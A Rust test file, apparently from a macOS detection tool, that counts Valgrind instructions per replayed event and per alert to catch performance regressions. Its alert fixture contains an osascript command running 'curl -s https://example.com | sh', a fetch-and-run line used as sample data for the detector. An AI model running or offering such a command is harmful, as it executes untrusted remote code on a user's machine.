//! What the hot loops cost, in instructions that Valgrind counts: on a shared machine times are noise, these are not.
//!
//! A change of over 5 % fails, a gain too: otherwise a later loss would go unnoticed. Where a rise is worth its price, and
//! after a gain, the new number is written here: it is in the message. The profile is that of the tests, so the numbers are to be compared with each other alone.

use std::fmt::Write;
use std::fs;
use std::io;
use std::path::Path;
use std::process::Command;

use serde_json::json;

use crate::{busy, trace};

/// Instructions for an event of a busy Mac, with all built-in rules. Much of it looks for marks in its text, 64 bytes at
/// a time: optimised as a release is, that loop is vector instructions, and near a tenth of this.
const EVENT: u64 = 23_994;
/// The same where processes fork, descend from known ones and state their ancestors.
const BUSY_EVENT: u64 = 28_390;
/// Instructions for an alert, with the two events that it comes of.
const ALERT: u64 = 1_607_000;

/// Instructions of a replay on one thread.
fn instructions(folder: &Path, recording: &str) -> u64 {
    let path = folder.join("recording.ndjson");
    fs::write(&path, recording).unwrap();
    let mut command = Command::new("valgrind");
    command.args(["--tool=callgrind", "--callgrind-out-file=/dev/null"]);
    command.args([env!("CARGO_BIN_EXE_osawatch"), "replay", "--threads", "1", "--output", "ndjson"]).arg(&path);
    let output = command.output().unwrap();
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(output.status.success(), "{stderr}");
    let count = stderr.lines().find_map(|line| line.split_once("Collected : "));
    count.unwrap_or_else(|| panic!("no count in {stderr}")).1.parse().unwrap()
}

/// What one more costs: what a long and a short recording have in common is the start.
fn for_one(recording: impl Fn(u64) -> String, few: u64, many: u64) -> u64 {
    let folder = tempfile::tempdir().unwrap();
    let [few_cost, many_cost] = [few, many].map(|number| instructions(folder.path(), &recording(number)));
    (many_cost - few_cost) / (many - few)
}

fn check(what: &str, measured: u64, before: u64) {
    let percent = measured as f64 / before as f64 * 100.0;
    assert!((95.0..105.0).contains(&percent), "{what}: {measured} instructions, {before} before ({percent:.1} %)");
}

/// What an event of a trace costs.
fn of_event(write: fn(u64, &mut Vec<u8>) -> io::Result<()>) -> u64 {
    let recording = |events| {
        let mut text = Vec::new();
        write(events, &mut text).unwrap();
        String::from_utf8(text).unwrap()
    };
    for_one(recording, 5_000, 25_000)
}

#[test]
#[ignore = "needs Valgrind"]
fn instructions_of_an_event_are_as_before() {
    check("an event", of_event(trace::write), EVENT);
}

#[test]
#[ignore = "needs Valgrind"]
fn instructions_of_an_event_of_known_descent_are_as_before() {
    check("an event of known descent", of_event(busy::write), BUSY_EVENT);
}

#[test]
#[ignore = "needs Valgrind"]
fn instructions_of_an_alert_are_as_before() {
    let recording = |alerts: u64| {
        (0..alerts).fold(String::new(), |mut text, n| {
            let (began, connected) = (1_700_000_000_000 + 10 * n, 1_700_000_000_002 + 10 * n);
            let mut process = json!({"pid": 1000 + n, "entity_id": format!("e{n}"), "name": "osascript",
                "executable": "/usr/bin/osascript"});
            let connection = json!({"@timestamp": connected, "event": {"category": ["network"], "type": ["start"],
                "action": "connection_attempted"}, "host": {"id": "h", "os": {"type": "macos"}}, "process": process,
                "destination": {"ip": "93.184.216.34", "port": 443}, "network": {"transport": "tcp"}});
            process["args"] = json!(["osascript", "-e", "do shell script \"curl -s https://example.com | sh\""]);
            process["command_line"] = json!("osascript -e do shell script \"curl -s https://example.com | sh\"");
            process["parent"] = json!({"pid": 400, "executable": "/bin/zsh", "name": "zsh", "entity_id": "p"});
            let start = json!({"@timestamp": began, "event": {"category": ["process"], "type": ["start"],
                "action": "exec"}, "host": {"id": "h", "os": {"type": "macos"}}, "user": {"id": "501", "name": "a"},
                "process": process});
            writeln!(text, "{start}\n{connection}").unwrap();
            text
        })
    };
    check("an alert", for_one(recording, 50, 250), ALERT);
}
